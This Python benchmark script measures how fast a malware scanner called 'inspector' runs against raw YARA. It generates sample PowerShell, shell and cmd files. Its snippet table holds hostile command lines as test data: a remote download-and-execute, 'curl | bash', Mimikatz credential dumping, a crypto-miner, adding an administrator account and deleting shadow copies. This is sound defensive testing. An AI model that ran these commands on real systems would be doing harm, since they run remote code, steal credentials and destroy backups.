"""Throughput of `inspector scan` over a folder, next to raw yara-python on the same bytes.

    .venv/bin/python benchmarks/scan_throughput.py [--files 400] [--folder DIR]

Without --folder it writes a folder of generated scripts (PowerShell, shell, cmd; benign and
malicious; 0.5-40 KB). Fetching is off. Both measurements use the same compiled ruleset; the
ratio says what the full pipeline (decoding, deobfuscation, heuristics, scoring, JSON) costs
on top of YARA alone.
"""

from __future__ import annotations

import argparse
import os
import random
import subprocess
import sys
import tempfile
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from inspector.config import load_settings  # noqa: E402
from inspector.rules import load_ruleset  # noqa: E402

SNIPPETS = {
    "ps1": [
        "Get-Service | Where-Object {{ $_.Status -eq 'Running' }} | Select-Object -First {n}\n",
        "Install-WindowsFeature -Name Web-Server -IncludeManagementTools\n",
        "$wc = New-Object Net.WebClient; IEX $wc.DownloadString('http://198.51.100.{n}/a.ps1')\n",
        "New-Item -ItemType Directory -Path C:\\inetpub\\site{n} -Force | Out-Null\n",
        "Invoke-Mimikatz -DumpCreds\n",
    ],
    "sh": [
        "apt-get install -y nginx-{n}\n",
        "systemctl enable --now nginx\n",
        "curl -s http://203.0.113.{n}/x.sh | bash\n",
        "echo 'net.core.somaxconn={n}' >> /etc/sysctl.conf\n",
        "./xmrig -o stratum+tcp://pool.example:3333 -u 4{n}AbCdEf\n",
    ],
    "cmd": [
        "@echo off\nset LOG=C:\\logs\\run{n}.txt\n",
        "net user svc{n} P@ss /add\nnet localgroup administrators svc{n} /add\n",
        "vssadmin delete shadows /all /quiet\n",
        "copy /y \\\\server\\share\\setup{n}.msi C:\\temp\\\n",
        "msiexec /i C:\\temp\\agent.msi /qn\n",
    ],
}


def generate(folder: Path, count: int, seed: int = 7) -> None:
    rng = random.Random(seed)
    for index in range(count):
        ext = ("ps1", "sh", "cmd")[index % 3]
        target = rng.choice([512, 2048, 8192, 40960])
        lines: list[str] = []
        size = 0
        while size < target:
            line = rng.choice(SNIPPETS[ext]).format(n=rng.randint(1, 250))
            lines.append(line)
            size += len(line)
        (folder / f"sample{index:05d}.{ext}").write_text("".join(lines))


def raw_yara(files: list[Path]) -> float:
    rules = load_ruleset(load_settings()).rules
    blobs = [p.read_bytes() for p in files]
    started = time.perf_counter()
    for blob in blobs:
        rules.match(data=blob)
    return time.perf_counter() - started


def full_scan(folder: Path) -> float:
    env = {k: v for k, v in os.environ.items() if not k.startswith("INSPECTOR_")}
    env["INSPECTOR_FETCH"] = "false"
    binary = Path(sys.executable).parent / "inspector"
    started = time.perf_counter()
    subprocess.run([str(binary), "scan", "--json", str(folder)], stdout=subprocess.DEVNULL, env=env, check=False)
    return time.perf_counter() - started


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--files", type=int, default=400)
    parser.add_argument("--folder", type=Path)
    args = parser.parse_args()
    with tempfile.TemporaryDirectory() as scratch:
        folder = args.folder or Path(scratch)
        if args.folder is None:
            generate(folder, args.files)
        files = sorted(p for p in folder.rglob("*") if p.is_file())
        total_mb = sum(p.stat().st_size for p in files) / 1e6
        empty = Path(scratch) / "_empty"
        empty.mkdir(exist_ok=True)
        (empty / "one.ps1").write_text("Get-Date\n")
        startup = full_scan(empty)
        scan_s = full_scan(folder)
        yara_s = raw_yara(files)
        print(f"files: {len(files)}, {total_mb:.2f} MB")
        print(f"inspector scan (one process, incl. {startup:.2f}s start-up): {scan_s:.2f}s  "
              f"{len(files) / scan_s:.1f} files/s  {total_mb / scan_s:.2f} MB/s")
        steady = max(scan_s - startup, 1e-9)
        print(f"inspector scan, start-up excluded: {len(files) / steady:.1f} files/s  {total_mb / steady:.2f} MB/s")
        print(f"raw yara-python, same rules, same bytes: {yara_s:.3f}s  {len(files) / yara_s:.1f} files/s  "
              f"{total_mb / yara_s:.2f} MB/s")
        print(f"ratio full pipeline / raw YARA throughput (start-up excluded): {yara_s / steady:.3f}")


if __name__ == "__main__":
    main()
